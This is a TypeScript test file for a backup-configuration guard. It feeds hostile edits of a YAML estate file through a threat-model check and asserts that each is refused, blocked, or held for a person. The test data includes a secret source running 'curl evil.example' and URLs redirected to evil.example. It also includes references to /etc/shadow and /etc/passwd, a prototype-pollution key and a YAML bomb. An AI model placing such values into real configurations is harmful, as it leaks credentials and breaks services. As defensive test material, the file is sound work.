// Commits that somebody hostile, or tired, makes to an estate that is applied without a person (threat model, T6). Each must
// be refused when it is read, refused by the guard, or be of a class that waits for a person.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { classOfChange } from '../guard/change-class.ts';
import { type Guard, guardSchema } from '../guard/guard.ts';
import { guardEstate } from '../guard/guard-estate.ts';
import type { Estate } from '../model/estate.ts';
import type { ChangeClass } from '../model/step.ts';
import { valuesAt } from './at.ts';
import { kinds, problemsIn, read, withFiles } from './estate.test-support.ts';
import { fieldsOf } from './fields.ts';
import { estateJsonSchema } from './json-schema.ts';

const before = `estate: home
pve:
  - { name: ruapehu, url: "https://ruapehu:8006", trust: ca, token: { id: holdfast@pve!run, secret: { env: PVE_TOKEN } } }
pbs:
  - name: vault
    url: https://vault:8007
    trust: ca
    token: { id: holdfast@pbs!run, secret: { env: PBS_TOKEN } }
    datastores: [{ name: tank, namespaces: [prod], prune: { schedule: daily, keep_daily: 14, keep_monthly: 6 } }]
pbs_storages:
  - { name: tank, server: vault, datastore: tank, fingerprint: "${Array(32).fill('AB').join(':')}", prune_backups: { keep_all: 1 } }
backup_jobs:
  - { name: nightly, schedule: "02:00", select: all, storage: tank }
machines: [{ name: here, local: true }]
tiers: [{ name: gold, rpo: 24h, copies: 3, offsite: true, verify_every: 7d }, { name: silver, rpo: 7d }]
workloads: [{ name: photos, tier: gold }]
layers:
  - { name: photos, kind: disk-image, machine: here, workload: photos, image: /srv/photos.img, to: /mnt/backup, keep: { keep_daily: 14 } }
schedules: [{ job: photos, schedule: "05:00", catch_up: true }]
channels: [{ name: house, kind: webhook, url: "https://hooks.home/x", secret: { env: HOOK } }]
exclusions: [{ subject: vm/105, reason: a sandbox, owner: anna, review_by: 2027-06-30 }]
`;

const guard: Guard = guardSchema.parse({
  bindings: [{ secret: { env: 'PVE_TOKEN' }, hosts: ['ruapehu'] }],
  retention_floors: [{ section: 'layers', keep: { keep_daily: 7 } }],
});

const paths = fieldsOf(estateJsonSchema(kinds))
  .filter(({ leaf }) => leaf)
  .map(({ path }) => path);

const estateOf = (text: string): Promise<Estate> =>
  withFiles({ 'estate.yaml': text }, (folder) => read(`${folder}/estate.yaml`));
const flat = ({ sections, ...rest }: Estate): Readonly<Record<string, unknown>> => ({ ...rest, ...sections });

/** The classes of all that differs, field by field, entries compared in their order. */
function classesOf(was: Estate, is: Estate): readonly ChangeClass[] {
  const all = [
    'layers[].keep',
    'backup_jobs[].select',
    'pbs_storages[].prune_backups',
    ...paths.filter((path) => !/keep\.|select\.|prune_backups\./.test(path)),
  ];
  return all.flatMap((field) => {
    const [from, to] = [was, is].map((estate) => valuesAt(flat(estate), field).map(({ value }) => value)) as [
      unknown[],
      unknown[],
    ];
    return Array.from({ length: Math.max(from.length, to.length) }, (_, index) => [from[index], to[index]])
      .filter(([one, other]) => JSON.stringify(one) !== JSON.stringify(other))
      .map(([one, other]) => classOfChange(field, one, other).class);
  });
}

type Fate = 'refused' | 'against the guard' | 'needs a person' | 'passes';

async function fateOf(text: string): Promise<Fate> {
  if ((await problemsIn(text)).length > 0) return 'refused';
  const [was, is] = [await estateOf(before), await estateOf(text)];
  if (guardEstate(is, guard).length > 0) return 'against the guard';
  const waits = classesOf(was, is).some((each) => !guard.unattended.some((passes) => passes === each));
  return waits ? 'needs a person' : 'passes';
}

const commits: readonly (readonly [what: string, from: string, to: string, fate: Fate])[] = [
  ['a secret command', '{ env: PBS_TOKEN }', '{ command: [/bin/sh, -c, "curl evil.example"] }', 'against the guard'],
  ['a token sent to another host', 'https://ruapehu:8006', 'https://evil.example:8006', 'against the guard'],
  ['an unbound secret sent to another host', 'https://vault:8007', 'https://evil.example:8007', 'needs a person'],
  ['another secret for a server', '{ env: PBS_TOKEN }', '{ env: AWS_SECRET }', 'needs a person'],
  ['another identity', 'holdfast@pbs!run', 'root@pam!all', 'needs a person'],
  [
    'another certificate',
    'trust: ca\n    token',
    `fingerprint: "${Array(32).fill('CD').join(':')}"\n    token`,
    'needs a person',
  ],
  ['no certificate at all', 'trust: ca\n    token', 'token', 'refused'],
  ['a server without TLS', 'https://vault:8007', 'http://vault:8007', 'refused'],
  ['a storage on another PBS', 'server: vault', 'server: evil.example', 'needs a person'],
  ['a channel to another house', 'https://hooks.home/x', 'https://evil.example/x', 'needs a person'],
  ['shorter retention', 'keep: { keep_daily: 14 }', 'keep: { keep_daily: 8 }', 'needs a person'],
  ['retention below the floor', 'keep: { keep_daily: 14 }', 'keep: { keep_last: 1 }', 'against the guard'],
  [
    'retention on a storage that had none',
    'prune_backups: { keep_all: 1 }',
    'prune_backups: { keep_last: 1 }',
    'needs a person',
  ],
  ['less kept by the prune job', 'keep_daily: 14, keep_monthly: 6', 'keep_daily: 14', 'needs a person'],
  [
    'a prune job for every namespace',
    'schedule: daily, keep_daily: 14',
    'schedule: daily, namespace: prod/x, keep_daily: 14',
    'needs a person',
  ],
  ['a namespace forgotten', 'namespaces: [prod], ', '', 'needs a person'],
  ['a guest left out of the backups', 'select: all', 'select: { all_but: [100] }', 'needs a person'],
  ['backups once a week', 'schedule: "02:00", select', 'schedule: "sun 02:00", select', 'needs a person'],
  ['backups switched off', 'storage: tank }', 'storage: tank, enabled: false }', 'needs a person'],
  ['a storage switched off', 'datastore: tank, ', 'datastore: tank, enabled: false, ', 'needs a person'],
  ['a workload forgotten', 'workloads: [{ name: photos, tier: gold }]', 'workloads: []', 'refused'],
  ['a lower tier', 'tier: gold }]', 'tier: silver }]', 'needs a person'],
  ['a tier that promises less', 'rpo: 24h, copies', 'rpo: 30d, copies', 'needs a person'],
  ['a tier that verifies nothing', ', verify_every: 7d', '', 'needs a person'],
  ['a wider exclusion', 'subject: vm/105', 'subject: "vm/*"', 'needs a person'],
  ['an exclusion nobody looks at again', '2027-06-30', '2099-06-30', 'needs a person'],
  ['a new destructive path', 'to: /mnt/backup', 'to: /mnt/other', 'needs a person'],
  ['another image under the same name', '/srv/photos.img', '/etc/shadow.img', 'needs a person'],
  ['missed runs not made up for', ', catch_up: true', '', 'needs a person'],
  ['approvals that last a year', 'estate: home', 'estate: home\napproval_expires: 1y', 'needs a person'],
  [
    'a YAML bomb',
    'estate: home',
    `a: &a [x, x]\n${Array.from({ length: 30 }, (_, i) => `l${i}: &l${i} [${i === 0 ? '*a, *a' : `*l${i - 1}, *l${i - 1}`}]`).join('\n')}`,
    'refused',
  ],
  ['a way into the prototype', 'name: ruapehu', '__proto__: { url: x }, name: ruapehu', 'refused'],
  ['a merge key', 'name: ruapehu', '<<: { url: x }, name: ruapehu', 'refused'],
  ['an include from above', 'estate: home', 'estate: home\ninclude: [../../etc/passwd.yaml]', 'refused'],
  ['a secret written out', '{ env: PBS_TOKEN }', 'hunter2-hunter2', 'refused'],
];

// Without these a classifier that lets nothing pass would do as well.
const harmless: readonly (readonly [what: string, from: string, to: string])[] = [
  ['a comment', 'storage: tank }', 'storage: tank, comment: hello }'],
  ['longer retention', 'keep: { keep_daily: 14 }', 'keep: { keep_daily: 30 }'],
  ['backups two hours later', 'schedule: "02:00", select', 'schedule: "04:00", select'],
  ['backups more often', 'schedule: "02:00", select', 'schedule: "0/6:00", select'],
  ['a tier that promises more', 'copies: 3', 'copies: 4'],
  [
    'another order of the keys',
    'name: ruapehu, url: "https://ruapehu:8006"',
    'url: "https://ruapehu:8006", name: ruapehu',
  ],
];

describe('a hostile commit', () => {
  for (const [what, from, to, fate] of commits)
    it(`${fate}: ${what}`, async () => {
      assert.ok(before.includes(from), 'the commit changes something');
      assert.equal(await fateOf(before.replace(from, to)), fate);
    });
});

describe('a harmless commit passes without a person', () => {
  for (const [what, from, to] of harmless)
    it(what, async () => {
      assert.ok(before.includes(from), 'the commit changes something');
      assert.equal(await fateOf(before.replace(from, to)), 'passes');
    });
});
